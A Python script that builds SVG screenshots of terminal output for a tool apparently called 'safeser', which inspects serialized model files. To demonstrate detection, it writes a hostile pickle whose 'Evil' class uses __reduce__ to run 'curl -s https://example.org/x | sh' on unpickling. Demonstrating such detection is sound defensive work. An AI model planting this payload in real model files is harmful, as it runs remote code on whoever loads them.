"""Makes the pictures of terminals: ``make pictures`` writes SVG files to ``docs/pictures``.

The one rule: a picture is what a command printed, in a terminal of the picture's width. Each
command runs in a pseudo-terminal; what it printed is drawn by rich, with the reader's own fonts.
"""

from __future__ import annotations

import argparse
import fcntl
import os
import pickle
import pty
import re
import struct
import sys
import tempfile
import termios
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from rich.console import Console
from rich.terminal_theme import TerminalTheme
from rich.text import Text

PROJECT = Path(__file__).parents[2]
TARGET = PROJECT / "docs" / "pictures"


@dataclass(frozen=True, slots=True)
class Picture:
    """A command, and which of its lines are drawn."""

    name: str
    shown: str
    command: tuple[str, ...]
    columns: int = 80
    first: str = ""  # how the first line begins that is drawn,
    last: str = ""  # and how the first one behind the picture does
    code: int = 0  # with which the command ends


PICTURES = (
    Picture(
        "demo",
        "make demo",
        ("python", "-m", "examples.demo"),
        88,
        first="^4  The same",
        last="^5  ",
    ),
    Picture(
        "policy-show",
        "safeser policy show dask-cluster",
        ("safeser", "policy", "show", "dask-cluster"),
        last="^line 34",
    ),
    Picture("inspect", "safeser inspect model.pkl", ("safeser", "inspect", "model.pkl"), code=1),
)

#: rich's own template names a font of a server; this one names fonts that readers have.
TEMPLATE = """\
<svg class="rich-terminal" viewBox="0 0 {width} {height}" xmlns="http://www.w3.org/2000/svg">
<style>
.{unique_id}-matrix {{ font-family: ui-monospace, "SF Mono", Menlo, Consolas, "Liberation Mono",
  "DejaVu Sans Mono", monospace; font-size: {char_height}px; line-height: {line_height}px; }}
.{unique_id}-title {{ font-size: 18px; font-weight: bold; font-family: system-ui, sans-serif; }}
{styles}
</style>
<defs>
<clipPath id="{unique_id}-clip-terminal">
<rect x="0" y="0" width="{terminal_width}" height="{terminal_height}" />
</clipPath>
{lines}
</defs>
{chrome}
<g transform="translate({terminal_x}, {terminal_y})" clip-path="url(#{unique_id}-clip-terminal)">
{backgrounds}
<g class="{unique_id}-matrix">
{matrix}
</g>
</g>
</svg>
"""

THEME = TerminalTheme(
    (23, 29, 33),
    (220, 226, 224),
    [
        (40, 48, 54), (240, 113, 120), (126, 200, 140), (229, 192, 123),
        (110, 170, 240), (198, 146, 233), (95, 205, 200), (220, 226, 224),
    ],
    [
        (120, 132, 138), (255, 135, 140), (150, 220, 160), (240, 210, 150),
        (140, 190, 255), (215, 170, 245), (120, 225, 220), (245, 248, 247),
    ],
)  # fmt: skip

_CONTROL = re.compile(r"\x1b\[(?P<number>[0-9;?]*)(?P<letter>[A-Za-z])|\r|\n|[^\x1b\r\n]+")


class Evil:
    """What a hostile model file holds beside its weights."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("curl -s https://example.org/x | sh",)


def run(command: Sequence[str], columns: int, folder: Path, *, code: int = 0) -> str:
    """Return what *command* prints in a terminal of so many columns; it has to end with *code*."""
    process, terminal = pty.fork()
    if process == 0:
        os.chdir(folder)
        os.environ |= {"COLUMNS": str(columns), "TERM": "xterm-256color"}
        os.environ["PYTHONPATH"] = str(PROJECT)  # the demo is no part of the package
        os.environ["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
        os.execvp(command[0], list(command))
    fcntl.ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    printed = b""
    try:
        while piece := os.read(terminal, 65536):
            printed += piece
    except OSError:  # Linux's word for the end
        pass
    _, status = os.waitpid(process, 0)
    if (ended := os.waitstatus_to_exitcode(status)) != code:
        shown = "\n".join(Text.from_ansi(line).plain for line in screen(printed.decode()))
        raise SystemExit(f"{' '.join(command)} ended with {ended}:\n{shown}")
    return printed.decode()


def screen(printed: str) -> list[str]:
    """Return the lines that a terminal shows in the end, with their colours.

    Bars and spinners go back to the begin of a line, erase it and go up; nothing else moves.
    """
    lines, row, again = [""], 0, False
    for match in _CONTROL.finditer(printed):
        piece, letter = match[0], match["letter"]
        if piece == "\n":
            row, again = row + 1, False
            lines += [""] * (row + 1 - len(lines))
        elif piece == "\r":
            again = True
        elif letter == "A":
            row = max(row - int(match["number"] or 1), 0)
        elif letter == "K":
            lines[row] = ""
        elif letter in (None, "m"):
            lines[row], again = ("" if again and letter is None else lines[row]) + piece, False
    return lines


def cut(lines: list[str], picture: Picture) -> list[str]:
    """Return the lines of the picture."""
    plain = [Text.from_ansi(line).plain for line in lines]
    begin = next((n for n, line in enumerate(plain) if re.search(picture.first, line)), None)
    if begin is None:
        raise SystemExit(f"{picture.name}: no line is like {picture.first!r}")
    end = len(plain)
    if picture.last:
        end = next(n for n, line in enumerate(plain) if re.search(picture.last, line))
    while end and not plain[end - 1].strip():
        end -= 1
    return lines[begin:end]


def draw(lines: Sequence[str], picture: Picture) -> str:
    """Return the lines as an SVG file."""
    with Path(os.devnull).open("w") as nowhere:
        console = Console(record=True, width=picture.columns, file=nowhere, force_terminal=True)
        for line in lines:
            console.print(Text.from_ansi(line), soft_wrap=True)
    return console.export_svg(
        title=f"$ {picture.shown}", theme=THEME, code_format=TEMPLATE, unique_id=picture.name
    )


def main() -> None:
    """Make the pictures that are asked for, or all."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("names", nargs="*", metavar="NAME", help="of a picture; all by default")
    names = parser.parse_args().names
    for picture in PICTURES:
        if names and picture.name not in names:
            continue
        with tempfile.TemporaryDirectory() as folder:
            model = {"name": "churn", "weights": [0.25, -1.5, 3.0], "callback": Evil()}
            (Path(folder) / "model.pkl").write_bytes(pickle.dumps(model))
            printed = run(picture.command, picture.columns, Path(folder), code=picture.code)
        svg = draw(cut(screen(printed), picture), picture)
        (TARGET / f"{picture.name}.svg").write_text(svg, "utf-8")
        print(TARGET / f"{picture.name}.svg")


if __name__ == "__main__":
    main()
